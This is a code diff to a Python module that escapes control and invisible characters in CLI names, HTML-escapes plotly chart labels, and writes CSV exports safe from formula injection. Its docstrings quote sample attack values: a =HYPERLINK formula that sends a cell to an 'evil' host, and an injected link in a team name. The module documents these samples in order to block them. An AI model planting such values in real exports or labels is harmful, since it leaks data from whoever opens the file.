@@ -30,9 +30,13 @@ shown as ``^[`` and the rest printed as text, which is safe.
 
 from __future__ import annotations
 
+import math
 import re
+from collections.abc import Iterable, Sequence
+from typing import Any
 
-__all__ = ["CONTROL_CHARACTER", "escaped_controls", "printable_line", "printable_log", "rewritten_line"]
+__all__ = ["CONTROL_CHARACTER", "FORMULA_START", "chart_label", "csv_text", "escaped_controls", "escaped_line", "printable_line",
+           "printable_log", "printable_name", "rewritten_line", "spreadsheet_cell"]
 
 # ESC [ params intermediates final  |  ESC ] / P / X / ^ / _ … terminated by BEL or ESC \ (or left open)
 _SEQUENCE = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b[\]PX^_][^\x07\x1b]*(?:\x07|\x1b\\|$)")
@@ -107,6 +111,32 @@ def printable_line(text: str, *, limit: int = 2000) -> str:
     return line if len(line) <= limit else line[:limit - 1] + "…"
 
 
+_HIDDEN_IN_NAME = re.compile("[" + _INVISIBLE + "]")
+
+
+def printable_name(text: str, *, limit: int = 2000) -> str:
+    """A name (a job's, its preemptor's, a lease's notebook) as a line of the CLI or the magics says it:
+    :func:`printable_line`, and the format characters drawn as nothing shown too (``train<U+200B>``), which a log
+    keeps (a joiner inside an emoji) but a name may not hide (s30: ``status`` said ``job j-1 (train)`` for a job
+    named ``train\\u200b``, red29 R2's rule for the tables only)."""
+    return _HIDDEN_IN_NAME.sub(_shown, printable_line(text, limit=limit))
+
+
+def escaped_line(text: str) -> str:
+    """``text`` on one line as :func:`escaped_controls` writes it, newline and tab escaped too (``\\n``, ``\\t``):
+    a stored value (a quarantined row's user, a usage row's team) printed inside a line of ours never forges a line
+    of its own, commands the terminal or hides a character (s30: ``jupyter-sched doctor``)."""
+    return escaped_controls(text).replace("\n", "\\n").replace("\t", "\\t")
+
+
+def chart_label(text: str) -> str:
+    """A stored name (a team, a user) as a plotly label shows it: plotly reads ``<a href=…>``, ``<b>``, ``<br>`` in
+    trace names, axis ticks and hover text as markup (a team named ``<a href="https://evil">ml</a>`` was a link in the
+    admin notebook's usage chart), so ``&`` ``<`` ``>`` are written as the entities plotly shows as those characters,
+    and hidden characters as :func:`escaped_controls` writes them (s30)."""
+    return escaped_controls(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
 def escaped_controls(text: str) -> str:
     """``text`` with every control character but newline and tab (and every bidirectional
     override, and U+2028 / U+2029: red27 R3, and every format character drawn as nothing — U+200B and
@@ -118,3 +148,41 @@ def escaped_controls(text: str) -> str:
         return text
     return _ESCAPED.sub(lambda m: (f"\\x{ord(m.group()):02x}" if ord(m.group()) < 0x100
                                    else f"\\u{ord(m.group()):04x}"), text)
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+"""What a spreadsheet (Excel, LibreOffice, Google Sheets) reads as the start of a formula in a CSV cell (OWASP
+"CSV injection": ``=`` ``+`` ``-`` ``@`` TAB CR; and their full-width forms, which some locales' spreadsheets
+turn into the ASCII ones): a name ``=HYPERLINK("http://evil/?"&A1,"ok")`` is a live formula there (s30)."""
+
+
+def spreadsheet_cell(value: Any) -> Any:
+    """``value`` as one cell of a CSV export (:func:`csv_text`): a number (``int``, ``float``, numpy's; not a
+    bool) stays the number (a negative cost is not a formula); NaN and None become an empty cell; any other value is
+    text — its controls, bidirectional and invisible characters escaped (:func:`escaped_controls`) and, when it then
+    begins with a :data:`FORMULA_START` character, a leading apostrophe (OWASP), so the spreadsheet shows it as text
+    and never evaluates it. Returns the number, or ``str``."""
+    if value is None:
+        return ""
+    if isinstance(value, bool) or type(value).__name__ == "bool_":
+        return str(value)
+    import numbers  # here, as csv and io below: the CLI's every call imports this module (issue 20: its start-up)
+
+    if isinstance(value, numbers.Real):  # int, float, Fraction, numpy's integers and floats
+        return "" if math.isnan(value) else value
+    text = escaped_controls(str(value))
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
+def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
+    """The one CSV writer of every export (``usage --csv`` and ``GET usage/report?format=csv``, ``audit --csv``,
+    ``simulate --out``'s files): the ``csv`` module's quoting, ``\\n`` line ends, a header row, then ``rows`` with
+    each cell as :func:`spreadsheet_cell` writes it (numbers as numbers, text never a formula nor a control)."""
+    import csv
+    import io
+
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow([spreadsheet_cell(name) for name in header])
+    writer.writerows([spreadsheet_cell(cell) for cell in row] for row in rows)
+    return buffer.getvalue()
